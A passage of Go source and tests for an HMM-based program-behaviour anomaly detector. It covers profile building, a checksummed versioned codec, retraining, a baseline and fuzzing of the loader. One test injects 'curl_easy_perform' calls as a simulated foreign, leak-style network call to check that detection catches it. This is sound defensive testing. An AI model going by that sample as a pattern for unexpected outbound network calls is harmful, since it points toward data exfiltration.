		t.Errorf("foreign burst scored %v, above refreshed threshold %v", s, next.Threshold)
	}
}

func TestRetrainRejectsEmptyCorpus(t *testing.T) {
	app := dataset.AppH()
	base, _ := buildFor(t, app, Options{Train: hmm.TrainOptions{MaxIters: 2}})
	if _, err := Retrain(context.Background(), base, nil, RetrainOptions{}); err == nil {
		t.Fatal("Retrain accepted an empty corpus")
	}
}
