package profile

// Versioned on-disk codec. Profiles are long-lived artefacts that outlive the
// process that trained them — the lifecycle registry persists one file per
// generation and `serve -profile-dir` loads whatever an operator drops in —
// so the serialisation needs to fail loudly and precisely on corrupt or
// incompatible input instead of surfacing an opaque gob error (or worse,
// decoding garbage into a half-valid model).
//
// Format v1:
//
//	magic   [6]byte  "ADPROF"
//	version uint16   big-endian, currently 1
//	length  uint64   big-endian payload byte count
//	crc     uint32   big-endian IEEE CRC-32 of the payload
//	payload []byte   gob-encoded Profile
//
// Load also accepts the v0 format (a bare gob stream, everything written
// before the header existed): the stream is sniffed via the magic bytes, so
// old profile files keep loading unchanged.

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/gob"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
)

// Codec constants; FormatVersion is what Save writes today.
const (
	FormatVersion = 1

	headerLen = 6 + 2 + 8 + 4
	// maxPayload bounds the declared payload length so a corrupt header
	// cannot make Load attempt a multi-gigabyte allocation.
	maxPayload = 1 << 30
)

var magic = [6]byte{'A', 'D', 'P', 'R', 'O', 'F'}

// Typed load failures; both wrap detail and are matchable with errors.Is.
var (
	// ErrCorrupt reports a profile stream that is truncated, bit-flipped
	// (checksum mismatch), or decodes into an unusable profile.
	ErrCorrupt = errors.New("profile: corrupt profile data")
	// ErrIncompatible reports a well-formed profile written by a newer format
	// version than this binary understands.
	ErrIncompatible = errors.New("profile: incompatible profile format")
)

// Save writes the profile in the current versioned format: a header carrying
// the format version and a CRC-32 of the gob payload, then the payload.
func (p *Profile) Save(w io.Writer) error {
	var payload bytes.Buffer
	if err := gob.NewEncoder(&payload).Encode(p); err != nil {
		return fmt.Errorf("profile: encoding: %w", err)
	}
	var hdr [headerLen]byte
	copy(hdr[:6], magic[:])
	binary.BigEndian.PutUint16(hdr[6:8], FormatVersion)
	binary.BigEndian.PutUint64(hdr[8:16], uint64(payload.Len()))
	binary.BigEndian.PutUint32(hdr[16:20], crc32.ChecksumIEEE(payload.Bytes()))
	if _, err := w.Write(hdr[:]); err != nil {
		return fmt.Errorf("profile: writing header: %w", err)
	}
	if _, err := w.Write(payload.Bytes()); err != nil {
		return fmt.Errorf("profile: writing payload: %w", err)
	}
	return nil
}

// Note there is deliberately no Profile.Checksum method: gob serialises maps
// in nondeterministic order, so two encodings of the same profile produce
// different payload bytes. A checksum therefore fingerprints one particular
// saved stream, not the logical profile — read it from real bytes via
// Inspect, as the lifecycle registry does.

// Load decodes a profile written by Save: the versioned v1 format, or the
// headerless v0 gob stream for back-compat. Corrupt input fails with an error
// wrapping ErrCorrupt; a newer format version fails with ErrIncompatible.
func Load(r io.Reader) (*Profile, error) {
	br := bufio.NewReader(r)
	head, err := br.Peek(len(magic))
	if err != nil || !bytes.Equal(head, magic[:]) {
		// v0: a bare gob stream (or junk, which gob will reject).
		return loadPayload(br)
	}
	var hdr [headerLen]byte
	if _, err := io.ReadFull(br, hdr[:]); err != nil {
		return nil, fmt.Errorf("%w: truncated header: %v", ErrCorrupt, err)
	}
	version := binary.BigEndian.Uint16(hdr[6:8])
	if version == 0 || version > FormatVersion {
		return nil, fmt.Errorf("%w: version %d (this build reads <= %d)",
			ErrIncompatible, version, FormatVersion)
	}
	length := binary.BigEndian.Uint64(hdr[8:16])
	if length > maxPayload {
		return nil, fmt.Errorf("%w: declared payload of %d bytes exceeds limit", ErrCorrupt, length)
	}
	sum := binary.BigEndian.Uint32(hdr[16:20])
	// ReadAll over a LimitReader grows incrementally, so a truncated stream
	// fails cheaply instead of allocating the declared length up front.
	payload, err := io.ReadAll(io.LimitReader(br, int64(length)))
	if err != nil {
		return nil, fmt.Errorf("%w: reading payload: %v", ErrCorrupt, err)
	}
	if uint64(len(payload)) != length {
		return nil, fmt.Errorf("%w: truncated payload: %d of %d bytes", ErrCorrupt, len(payload), length)
	}
	if got := crc32.ChecksumIEEE(payload); got != sum {
		return nil, fmt.Errorf("%w: checksum mismatch: %08x, header says %08x", ErrCorrupt, got, sum)
	}
	return loadPayload(bytes.NewReader(payload))
}

// loadPayload gob-decodes one profile and rejects decodes that produce an
// unusable model (possible when a corrupt v0 stream happens to parse).
func loadPayload(r io.Reader) (*Profile, error) {
	var p Profile
	if err := gob.NewDecoder(r).Decode(&p); err != nil {
		return nil, fmt.Errorf("%w: decoding: %v", ErrCorrupt, err)
	}
	if err := checkShape(&p); err != nil {
		return nil, fmt.Errorf("%w: %v", ErrCorrupt, err)
	}
	p.buildSymIndex()
	return &p, nil
}

// checkShape validates the structural invariants detection relies on, without
// re-verifying row stochasticity (float-exact through gob, and retraining
// smooths anyway).
func checkShape(p *Profile) error {
	m := p.Model
	if m == nil {
		return errors.New("missing model")
	}
	if m.N <= 0 || m.M <= 0 || len(m.Pi) != m.N || len(m.A) != m.N || len(m.B) != m.N {
		return fmt.Errorf("model shape N=%d M=%d pi=%d a=%d b=%d", m.N, m.M, len(m.Pi), len(m.A), len(m.B))
	}
	for i := range m.A {
		if len(m.A[i]) != m.N || len(m.B[i]) != m.M {
			return fmt.Errorf("model row %d shape a=%d b=%d", i, len(m.A[i]), len(m.B[i]))
		}
	}
	if len(p.Symbols) == 0 {
		return errors.New("empty alphabet")
	}
	if len(p.Symbols) != m.M {
		return fmt.Errorf("%d symbols for M=%d model", len(p.Symbols), m.M)
	}
	if p.WindowLen <= 0 {
		return fmt.Errorf("window length %d", p.WindowLen)
	}
	return nil
}

// Info describes a saved profile without fully trusting it: the header
// fields, checksum verification, and the decoded profile's summary. The
// `adprom profile inspect` subcommand prints it.
type Info struct {
	// FormatVersion is 0 for headerless legacy streams.
	FormatVersion int
	// PayloadBytes is the gob payload size.
	PayloadBytes int
	// Checksum is the hex CRC-32 of the payload (computed for v0 streams).
	Checksum string
	// Program, states, alphabet and detection parameters of the decoded
	// profile.
	Program      string
	States       int
	Symbols      int
	WindowLen    int
	Threshold    float64
	Reduced      bool
	TrainedIters int
}

// Inspect reads a saved profile and reports its codec-level and model-level
// summary, failing with the same typed errors as Load.
func Inspect(r io.Reader) (*Info, *Profile, error) {
	raw, err := io.ReadAll(io.LimitReader(r, maxPayload+headerLen+1))
	if err != nil {
		return nil, nil, fmt.Errorf("%w: reading: %v", ErrCorrupt, err)
	}
	p, err := Load(bytes.NewReader(raw))
	if err != nil {
		return nil, nil, err
	}
	info := &Info{
		Program:   p.Program,
		States:    p.Model.N,
		Symbols:   len(p.Symbols),
		WindowLen: p.WindowLen,
		Threshold: p.Threshold,
		Reduced:   p.Reduced,
	}
	if p.TrainResult != nil {
		info.TrainedIters = p.TrainResult.Iterations
	}
	if len(raw) >= headerLen && bytes.Equal(raw[:6], magic[:]) {
		info.FormatVersion = int(binary.BigEndian.Uint16(raw[6:8]))
		payload := raw[headerLen:]
		info.PayloadBytes = len(payload)
		info.Checksum = fmt.Sprintf("%08x", crc32.ChecksumIEEE(payload))
	} else {
		info.PayloadBytes = len(raw)
		info.Checksum = fmt.Sprintf("%08x", crc32.ChecksumIEEE(raw))
	}
	return info, p, nil
}
