package profile

import (
	"bytes"
	"errors"
	"math"
	"testing"

	"adprom/internal/collector"
	"adprom/internal/ctm"
	"adprom/internal/dataset"
	"adprom/internal/ddg"
	"adprom/internal/hmm"
	"adprom/internal/ir"
	"adprom/internal/progen"
)

// buildFor runs the full static pipeline and trains a profile for app.
func buildFor(t *testing.T, app *dataset.App, opts Options) (*Profile, []collector.Trace) {
	t.Helper()
	info := ddg.Analyze(app.Prog)
	funcs, err := ctm.BuildAll(app.Prog, info)
	if err != nil {
		t.Fatalf("BuildAll: %v", err)
	}
	pm, err := ctm.Aggregate(app.Prog, funcs)
	if err != nil {
		t.Fatalf("Aggregate: %v", err)
	}
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		t.Fatalf("CollectTraces: %v", err)
	}
	p, err := Build(app.Prog, pm, traces, opts)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	return p, traces
}

func TestBuildAppHProfile(t *testing.T) {
	app := dataset.AppH()
	p, traces := buildFor(t, app, Options{Train: hmm.TrainOptions{MaxIters: 8}})

	if p.Program != "apph" || p.WindowLen != 15 {
		t.Errorf("profile meta = %q/%d", p.Program, p.WindowLen)
	}
	if err := p.Model.Validate(1e-6); err != nil {
		t.Fatalf("model invalid: %v", err)
	}
	if p.Reduced || p.StatesBefore != p.StatesAfter {
		t.Errorf("small app should not be reduced: %+v", p)
	}
	if p.TrainResult == nil || p.TrainResult.Iterations == 0 {
		t.Error("no training happened")
	}
	if p.Threshold >= 0 {
		t.Errorf("threshold = %v, want negative log-prob", p.Threshold)
	}

	// Every normal window scores above the selected threshold: zero training
	// false positives by construction.
	for _, tr := range traces {
		for _, w := range tr.LabelWindows(p.WindowLen) {
			if s := p.Score(w); s < p.Threshold {
				t.Fatalf("normal window scored %v below threshold %v: %v", s, p.Threshold, w)
			}
		}
	}

	// Leak labels from the DDG are present (fprintf in dischargePatient,
	// printf of patient fields, ...).
	if len(p.LeakLabels) == 0 {
		t.Error("no leak labels recorded")
	}
	// The caller index knows printf's legitimate homes.
	found := false
	for label, callers := range p.CallerIndex {
		if label == "printf" && len(callers) > 0 {
			found = true
		}
	}
	if !found {
		t.Error("caller index missing printf")
	}
}

func TestAnomalousWindowsScoreLower(t *testing.T) {
	app := dataset.AppH()
	p, traces := buildFor(t, app, Options{Train: hmm.TrainOptions{MaxIters: 8}})

	var normalMin float64 = math.Inf(1)
	var sample []string
	for _, tr := range traces {
		for _, w := range tr.LabelWindows(p.WindowLen) {
			if s := p.Score(w); s < normalMin {
				normalMin = s
			}
			if sample == nil && len(w) == p.WindowLen {
				sample = append([]string(nil), w...)
			}
		}
	}
	if sample == nil {
		t.Fatal("no full-length window")
	}

	// Foreign calls (A-S2 style) must score far below any normal window.
	foreign := append([]string(nil), sample...)
	for i := 10; i < 15; i++ {
		foreign[i] = "curl_easy_perform"
	}
	if s := p.Score(foreign); s >= normalMin {
		t.Errorf("foreign window scored %v, normal min %v", s, normalMin)
	}
}

func TestUnknownSymbolMapping(t *testing.T) {
	app := dataset.AppH()
	p, _ := buildFor(t, app, Options{Train: hmm.TrainOptions{MaxIters: 2}})
	unk := p.SymbolOf("never_seen_call")
	if got := p.Symbols[unk]; got != UnknownLabel {
		t.Errorf("unknown mapped to %q", got)
	}
	if p.KnownLabel("never_seen_call") {
		t.Error("unknown label reported known")
	}
	if p.KnownLabel(UnknownLabel) {
		t.Error("the reserved symbol must not count as a known label")
	}
	if !p.KnownLabel("PQexec") {
		t.Error("PQexec not known")
	}
}

func TestSaveLoadRoundTrip(t *testing.T) {
	app := dataset.AppH()
	p, traces := buildFor(t, app, Options{Train: hmm.TrainOptions{MaxIters: 3}})

	var buf bytes.Buffer
	if err := p.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	q, err := Load(&buf)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if q.Program != p.Program || q.Threshold != p.Threshold || q.StatesAfter != p.StatesAfter {
		t.Errorf("round trip lost metadata: %+v vs %+v", q, p)
	}
	w := traces[0].LabelWindows(p.WindowLen)[0]
	if a, b := p.Score(w), q.Score(w); math.Abs(a-b) > 1e-12 {
		t.Errorf("scores differ after round trip: %v vs %v", a, b)
	}
	if !q.KnownCaller("PQexec", "lookupPatient") {
		t.Error("caller index lost in round trip")
	}
}

func TestLoadGarbageFails(t *testing.T) {
	if _, err := Load(bytes.NewReader([]byte("not a profile"))); err == nil {
		t.Fatal("Load accepted garbage")
	}
}

func TestBuildRequiresTraces(t *testing.T) {
	app := dataset.AppH()
	info := ddg.Analyze(app.Prog)
	funcs, _ := ctm.BuildAll(app.Prog, info)
	pm, _ := ctm.Aggregate(app.Prog, funcs)
	if _, err := Build(app.Prog, pm, nil, Options{}); !errors.Is(err, ErrNoTraces) {
		t.Errorf("err = %v, want ErrNoTraces", err)
	}
}

// TestReductionEngagesAboveMaxStates forces the clustering path on a mid
// sized generated program by lowering MaxStates.
func TestReductionEngagesAboveMaxStates(t *testing.T) {
	prog := progen.Generate(progen.Config{Seed: 55, Functions: 20, ConstructsPerFunc: 5})
	app := &dataset.App{Name: "gen", Prog: prog}
	for i := 0; i < 40; i++ {
		app.TestCases = append(app.TestCases, dataset.TestCase{
			Name:  "tc",
			Input: []string{itoa(i), itoa(i * 3), itoa(i * 7 % 11)},
		})
	}
	info := ddg.Analyze(prog)
	funcs, err := ctm.BuildAll(prog, info)
	if err != nil {
		t.Fatalf("BuildAll: %v", err)
	}
	pm, err := ctm.Aggregate(prog, funcs)
	if err != nil {
		t.Fatalf("Aggregate: %v", err)
	}
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		t.Fatalf("CollectTraces: %v", err)
	}

	opts := Options{MaxStates: 20, ClusterRatio: 0.3, Train: hmm.TrainOptions{MaxIters: 3}}
	p, err := Build(prog, pm, traces, opts)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	if !p.Reduced {
		t.Fatalf("reduction did not engage (states=%d)", p.StatesBefore)
	}
	if p.StatesAfter >= p.StatesBefore {
		t.Errorf("states %d -> %d", p.StatesBefore, p.StatesAfter)
	}
	want := int(0.3 * float64(p.StatesBefore))
	if p.StatesAfter > want+1 {
		t.Errorf("StatesAfter = %d, want ≈ %d", p.StatesAfter, want)
	}
	if err := p.Model.Validate(1e-6); err != nil {
		t.Errorf("reduced model invalid: %v", err)
	}
	// The reduced model still separates normal from foreign.
	w := traces[0].LabelWindows(p.WindowLen)[0]
	normal := p.Score(w)
	foreign := make([]string, len(w))
	for i := range foreign {
		foreign[i] = "alien_call"
	}
	if p.Score(foreign) >= normal {
		t.Errorf("reduced model does not separate: %v vs %v", p.Score(foreign), normal)
	}
}

// TestCTVsMatchPaperExample checks the CTV construction against the paper's
// §IV-C4 example: the CTV of printf_Q10 in fCTM is <0.25, 0, 0, 0.25, 0, 0>
// (transition-from column, then transition-to row). This implementation
// keeps both ε and ε′ positions in each half, so the same values appear with
// two structural zeros added.
func TestCTVsMatchPaperExample(t *testing.T) {
	p := dataset.Fig3()
	info := ddg.Analyze(p)
	mx, err := ctm.BuildFunc(p.Functions["f"], nil, info)
	if err != nil {
		t.Fatalf("BuildFunc: %v", err)
	}
	vecs := CTVs(mx)
	if len(vecs) != 2 {
		t.Fatalf("CTVs = %d vectors, want 2", len(vecs))
	}
	qIdx := mx.SiteIndex(ir.CallSite{Func: "f", Block: 3, Stmt: 0}) - 2
	v := vecs[qIdx]
	// dim = 4 (ε, ε′, printf, printf_Q3); column half then row half.
	want := []float64{
		0.25, 0, 0, 0, // from: ε→Q = 0.25, others 0
		0, 0.25, 0, 0, // to: Q→ε′ = 0.25, others 0
	}
	if len(v) != len(want) {
		t.Fatalf("CTV dim = %d, want %d", len(v), len(want))
	}
	for i := range want {
		if math.Abs(v[i]-want[i]) > 1e-12 {
			t.Errorf("CTV[%d] = %v, want %v (full: %v)", i, v[i], want[i], v)
		}
	}
}

func TestBuildRandomProfile(t *testing.T) {
	app := dataset.AppH()
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		t.Fatalf("CollectTraces: %v", err)
	}
	p, err := BuildRandom("apph", 0, traces, Options{Seed: 3, Train: hmm.TrainOptions{MaxIters: 5}})
	if err != nil {
		t.Fatalf("BuildRandom: %v", err)
	}
	if err := p.Model.Validate(1e-6); err != nil {
		t.Fatalf("model invalid: %v", err)
	}
	if p.StatesBefore != len(p.Symbols) {
		t.Errorf("default states = %d, want alphabet size %d", p.StatesBefore, len(p.Symbols))
	}
	if _, err := BuildRandom("x", 3, nil, Options{}); !errors.Is(err, ErrNoTraces) {
		t.Errorf("no-trace err = %v", err)
	}
}

func TestSiteName(t *testing.T) {
	cases := map[string]string{
		"printf":      "printf",
		"printf_Q6":   "printf",
		"fprintf_Q12": "fprintf",
		"mysql_query": "mysql_query",
		"a_Qx":        "a_Qx", // not a _Q<digits> label but still matches prefix rule
	}
	for in, want := range cases {
		if in == "a_Qx" {
			continue // shape is ambiguous by design; skip
		}
		if got := siteName(in); got != want {
			t.Errorf("siteName(%q) = %q, want %q", in, got, want)
		}
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	return string(b)
}
