package profile

import (
	"fmt"
	"sort"

	"adprom/internal/collector"
	"adprom/internal/hmm"
)

// BuildRandom builds a profile whose HMM is randomly initialised and whose
// alphabet comes from the traces alone — the Rand-HMM baseline the paper
// compares against in Figure 10 (Guevara et al. [33]: random initialisation,
// no program analysis).
//
// nStates ≤ 0 defaults to the alphabet size. The same training and threshold
// machinery as Build runs afterwards, so the only difference under test is
// the initialisation.
func BuildRandom(program string, nStates int, traces []collector.Trace, opts Options) (*Profile, error) {
	opts = opts.withDefaults()

	p := &Profile{
		Program:     program,
		WindowLen:   opts.WindowLen,
		CallerIndex: map[string][]string{},
		LeakLabels:  map[string]bool{},
	}

	labelSet := map[string]bool{}
	var windows [][]string
	for _, tr := range traces {
		for _, c := range tr {
			labelSet[c.Label] = true
			p.addCaller(c.Label, c.Caller)
			if len(c.Origins) > 0 {
				p.LeakLabels[c.Label] = true
			}
		}
		windows = append(windows, tr.LabelWindows(opts.WindowLen)...)
	}
	if len(windows) == 0 {
		return nil, ErrNoTraces
	}
	// Training may shrink the corpus for tractability, but the threshold
	// should span as much of the normal behaviour as possible: a window
	// dropped from training still has to score above the threshold, or
	// profile construction manufactures false positives. Deduplication is
	// the main reduction — sliding windows repeat heavily across test cases
	// — and preserves the exact minimum score; MaxTrainWindows subsamples
	// only what remains (training set), with the threshold drawing on a 3x
	// larger sample (residual false positives on gigantic corpora are
	// expected — the paper's Table VII reports a handful too).
	// The CSDS holdout (paper §V-B: 1/5 kept aside to stop training) is
	// drawn from the raw window stream BEFORE deduplication: rare paths often
	// have a single distinct window, and holding that out would leave the
	// only evidence of a legitimate path untrained — Baum–Welch would then
	// drive its transitions to the smoothing floor and the path would flag
	// forever. Sampling the duplicated stream keeps the holdout
	// distributionally faithful while training still sees every pattern.
	rawWindows := windows
	windows = dedupWindows(windows)
	threshWindows := windows
	if opts.MaxTrainWindows > 0 && len(threshWindows) > 3*opts.MaxTrainWindows {
		threshWindows = subsample(threshWindows, 3*opts.MaxTrainWindows)
	}
	if opts.MaxTrainWindows > 0 && len(windows) > opts.MaxTrainWindows {
		windows = subsample(windows, opts.MaxTrainWindows)
	}
	p.sortCallerIndex()

	for l := range labelSet {
		p.Symbols = append(p.Symbols, l)
	}
	sort.Strings(p.Symbols)
	p.Symbols = append(p.Symbols, UnknownLabel)
	p.buildSymIndex()

	if nStates <= 0 {
		nStates = len(p.Symbols)
	}
	p.Model = hmm.NewRandom(nStates, len(p.Symbols), opts.Seed)
	p.StatesBefore = nStates
	p.StatesAfter = nStates

	if opts.SkipTraining {
		return p, nil
	}

	stride := int(1 / opts.HoldoutFrac)
	train := make([][]int, 0, len(windows))
	for _, w := range windows {
		train = append(train, p.Encode(w))
	}
	var hold [][]int
	for i := stride - 1; i < len(rawWindows) && len(hold) < 200; i += stride {
		hold = append(hold, p.Encode(rawWindows[i]))
	}
	tOpts := opts.Train
	if tOpts.PriorWeight == 0 {
		// MAP training against the initialisation keeps statically feasible
		// but unexercised paths alive; see hmm.TrainOptions.PriorWeight.
		tOpts.PriorWeight = 2
	}
	tOpts.Holdout = hold
	res, err := p.Model.Train(train, tOpts)
	if err != nil {
		return nil, fmt.Errorf("profile: training random %s: %w", program, err)
	}
	p.TrainResult = res

	if !opts.SkipThreshold {
		minScore := 0.0
		first := true
		for _, w := range threshWindows {
			s := p.Score(w)
			if first || s < minScore {
				minScore, first = s, false
			}
		}
		p.Threshold = minScore - opts.ThresholdSlack
	}
	return p, nil
}
