package profile

import (
	"testing"

	"adprom/internal/ctm"
	"adprom/internal/dataset"
	"adprom/internal/ddg"
	"adprom/internal/hmm"
)

func appHInputs(t *testing.T) (*dataset.App, *ctm.Matrix) {
	t.Helper()
	app := dataset.AppH()
	info := ddg.Analyze(app.Prog)
	funcs, err := ctm.BuildAll(app.Prog, info)
	if err != nil {
		t.Fatal(err)
	}
	pm, err := ctm.Aggregate(app.Prog, funcs)
	if err != nil {
		t.Fatal(err)
	}
	return app, pm
}

func TestSkipTrainingYieldsStaticOnlyProfile(t *testing.T) {
	app, pm := appHInputs(t)
	traces, err := app.CollectTraces(0)
	if err != nil {
		t.Fatal(err)
	}
	p, err := Build(app.Prog, pm, traces, Options{SkipTraining: true})
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	if p.TrainResult != nil {
		t.Error("SkipTraining still trained")
	}
	if err := p.Model.Validate(1e-6); err != nil {
		t.Errorf("static-only model invalid: %v", err)
	}
	// The untrained model still separates legitimate windows from foreign
	// calls — the CTM initialisation alone carries signal (the premise of
	// the paper's probability forecast).
	w := traces[0].LabelWindows(p.WindowLen)[0]
	foreign := make([]string, len(w))
	for i := range foreign {
		foreign[i] = "alien"
	}
	if p.Score(foreign) >= p.Score(w) {
		t.Errorf("static-only model does not separate: %v vs %v",
			p.Score(foreign), p.Score(w))
	}
}

func TestSkipThresholdLeavesZero(t *testing.T) {
	app, pm := appHInputs(t)
	traces, err := app.CollectTraces(0)
	if err != nil {
		t.Fatal(err)
	}
	p, err := Build(app.Prog, pm, traces, Options{
		SkipThreshold: true,
		Train:         hmm.TrainOptions{MaxIters: 2},
	})
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	if p.Threshold != 0 {
		t.Errorf("Threshold = %v, want 0 with SkipThreshold", p.Threshold)
	}
	if p.TrainResult == nil {
		t.Error("SkipThreshold suppressed training too")
	}
}

func TestNegativePriorWeightDisablesMAP(t *testing.T) {
	app, pm := appHInputs(t)
	traces, err := app.CollectTraces(0)
	if err != nil {
		t.Fatal(err)
	}
	opts := Options{Train: hmm.TrainOptions{MaxIters: 3, PriorWeight: -1}}
	p, err := Build(app.Prog, pm, traces, opts)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	// ML-only training is legal; the model must still be stochastic.
	if err := p.Model.Validate(1e-6); err != nil {
		t.Errorf("ML-trained model invalid: %v", err)
	}
}

func TestDedupWindows(t *testing.T) {
	in := [][]string{
		{"a", "b"},
		{"a", "b"},
		{"a"},
		{"b", "a"},
		{"a", "b"},
	}
	got := dedupWindows(in)
	if len(got) != 3 {
		t.Fatalf("dedup kept %d windows: %v", len(got), got)
	}
	// First occurrences, in order.
	if got[0][0] != "a" || len(got[0]) != 2 || len(got[1]) != 1 || got[2][0] != "b" {
		t.Errorf("dedup order wrong: %v", got)
	}
	// The separator is not confusable: {"a","b"} vs {"ab"}.
	tricky := [][]string{{"a", "b"}, {"ab"}}
	if got := dedupWindows(tricky); len(got) != 2 {
		t.Errorf("separator collision: %v", got)
	}
}

func TestSubsample(t *testing.T) {
	in := make([][]string, 100)
	for i := range in {
		in[i] = []string{string(rune('a' + i%26))}
	}
	got := subsample(in, 10)
	if len(got) != 10 {
		t.Errorf("subsample = %d windows", len(got))
	}
	if got2 := subsample(in, 500); len(got2) != 100 {
		t.Errorf("oversized cap trimmed: %d", len(got2))
	}
}
