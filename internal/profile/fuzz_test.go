package profile

import (
	"bytes"
	"encoding/binary"
	"encoding/gob"
	"testing"

	"adprom/internal/hmm"
)

// FuzzLoad drives the profile loader with truncated, corrupt, and bit-flipped
// input. The invariant under fuzzing: Load never panics and never returns a
// profile the detection engine cannot use (nil model, mismatched alphabet) —
// every malformed stream must fail with an error instead. `make verify` runs
// a short smoke pass; longer runs explore the gob surface.
func FuzzLoad(f *testing.F) {
	p := &Profile{
		Program:     "fuzz",
		Symbols:     []string{"a", "b", UnknownLabel},
		WindowLen:   3,
		Threshold:   -1,
		CallerIndex: map[string][]string{"a": {"main"}},
		LeakLabels:  map[string]bool{"b": true},
	}
	p.Model = hmm.New(2, len(p.Symbols))

	var v1 bytes.Buffer
	if err := p.Save(&v1); err != nil {
		f.Fatal(err)
	}
	var v0 bytes.Buffer
	if err := gob.NewEncoder(&v0).Encode(p); err != nil {
		f.Fatal(err)
	}

	f.Add(v1.Bytes())
	f.Add(v0.Bytes())
	f.Add(v1.Bytes()[:headerLen])
	f.Add(v1.Bytes()[:headerLen/2])
	f.Add([]byte{})
	f.Add([]byte("ADPROF"))
	f.Add([]byte("not a profile at all"))
	// A header declaring far more payload than follows.
	hdr := append([]byte(nil), v1.Bytes()[:headerLen]...)
	binary.BigEndian.PutUint64(hdr[8:16], 1<<20)
	f.Add(hdr)

	f.Fuzz(func(t *testing.T, data []byte) {
		q, err := Load(bytes.NewReader(data))
		if err != nil {
			return
		}
		// A successful load must yield a profile detection can hold: encode a
		// label, score a window, and touch the caller index without panicking.
		if q.Model == nil || len(q.Symbols) == 0 || q.WindowLen <= 0 {
			t.Fatalf("Load returned unusable profile: %+v", q)
		}
		if got := q.SymbolOf("no-such-label-ever"); got < 0 || got >= len(q.Symbols) {
			t.Fatalf("SymbolOf out of range: %d", got)
		}
		q.KnownCaller("a", "main")
		q.Score([]string{"a", "b"})
	})
}
