package profile

import (
	"context"
	"fmt"

	"adprom/internal/collector"
	"adprom/internal/hmm"
)

// RetrainOptions tune Retrain. The zero value applies Build's defaults.
type RetrainOptions struct {
	// Train configures the warm-started Baum–Welch pass; Holdout is filled
	// from the CSDS split of the retraining corpus.
	Train hmm.TrainOptions
	// HoldoutFrac is the CSDS fraction kept aside to stop training
	// (default 0.2).
	HoldoutFrac float64
	// ThresholdSlack is subtracted from the lowest corpus score to place the
	// refreshed threshold (default 0.05 nats, as in Build).
	ThresholdSlack float64
	// MaxTrainWindows caps the training windows (0 = no cap), subsampling
	// deterministically like Build.
	MaxTrainWindows int
}

// Retrain builds the next generation of a profile from recent judged-Normal
// traces: the model is a warm-started copy of base.Model (base's CTM
// initialisation and earlier training survive as the MAP prior, see
// hmm.Model.Retrain), the caller index and leak labels absorb any new
// call sites the corpus exercises, and the detection threshold is re-selected
// from the corpus so post-drift normal behaviour stops flagging. The alphabet
// is frozen: labels unseen at initial training time keep mapping to the
// reserved unknown symbol, whose emission probabilities the retrain raises in
// the states where drifted traffic visits it.
//
// base is never mutated — it may be serving live detection while this runs.
func Retrain(ctx context.Context, base *Profile, traces []collector.Trace, opts RetrainOptions) (*Profile, error) {
	if opts.HoldoutFrac <= 0 || opts.HoldoutFrac >= 1 {
		opts.HoldoutFrac = 0.2
	}
	if opts.ThresholdSlack <= 0 {
		opts.ThresholdSlack = 0.05
	}

	var windows [][]string
	for _, tr := range traces {
		windows = append(windows, tr.LabelWindows(base.WindowLen)...)
	}
	if len(windows) == 0 {
		return nil, ErrNoTraces
	}
	rawWindows := windows
	windows = dedupWindows(windows)
	threshWindows := windows
	if opts.MaxTrainWindows > 0 && len(threshWindows) > 3*opts.MaxTrainWindows {
		threshWindows = subsample(threshWindows, 3*opts.MaxTrainWindows)
	}
	if opts.MaxTrainWindows > 0 && len(windows) > opts.MaxTrainWindows {
		windows = subsample(windows, opts.MaxTrainWindows)
	}

	next := &Profile{
		Program:      base.Program,
		Symbols:      base.Symbols, // frozen alphabet, shared (immutable)
		WindowLen:    base.WindowLen,
		CallerIndex:  make(map[string][]string, len(base.CallerIndex)),
		LeakLabels:   make(map[string]bool, len(base.LeakLabels)),
		StatesBefore: base.StatesBefore,
		StatesAfter:  base.StatesAfter,
		Reduced:      base.Reduced,
	}
	for label, callers := range base.CallerIndex {
		next.CallerIndex[label] = append([]string(nil), callers...)
	}
	for label := range base.LeakLabels {
		next.LeakLabels[label] = true
	}
	next.buildSymIndex()

	// Recent legitimate behaviour extends the caller expectations: a known
	// call migrating to a new (administrator-approved) caller must stop
	// raising OutOfContext after the swap.
	for _, tr := range traces {
		for _, c := range tr {
			next.addCaller(c.Label, c.Caller)
			if len(c.Origins) > 0 {
				next.LeakLabels[c.Label] = true
			}
		}
	}
	next.sortCallerIndex()

	train := make([][]int, 0, len(windows))
	for _, w := range windows {
		train = append(train, next.Encode(w))
	}
	stride := int(1 / opts.HoldoutFrac)
	tOpts := opts.Train
	for i := stride - 1; i < len(rawWindows) && len(tOpts.Holdout) < 200; i += stride {
		tOpts.Holdout = append(tOpts.Holdout, next.Encode(rawWindows[i]))
	}

	model, res, err := base.Model.Retrain(ctx, train, tOpts)
	if err != nil {
		return nil, fmt.Errorf("profile: retraining %s: %w", base.Program, err)
	}
	next.Model = model
	next.TrainResult = res

	minScore := 0.0
	first := true
	for i, w := range threshWindows {
		if i%512 == 0 {
			if err := ctx.Err(); err != nil {
				return nil, fmt.Errorf("profile: retrain threshold scan for %s cancelled: %w", base.Program, err)
			}
		}
		if s := next.Score(w); first || s < minScore {
			minScore, first = s, false
		}
	}
	next.Threshold = minScore - opts.ThresholdSlack
	return next, nil
}
