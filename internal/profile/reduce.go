package profile

import (
	"adprom/internal/ctm"
	"adprom/internal/hmm"
	"adprom/internal/kmeans"
	"adprom/internal/pca"
)

// CTVs builds the call-transition vectors of §IV-C4: for each site, the
// concatenation of its transition-from column and transition-to row over the
// full pCTM (including ε and ε′), giving a 2·dim vector per call.
func CTVs(pm *ctm.Matrix) [][]float64 {
	n := pm.NumSites()
	dim := pm.Dim()
	out := make([][]float64, n)
	for k := 0; k < n; k++ {
		v := make([]float64, 2*dim)
		for i := 0; i < dim; i++ {
			v[i] = pm.At(i, k+2)     // transition-from (column)
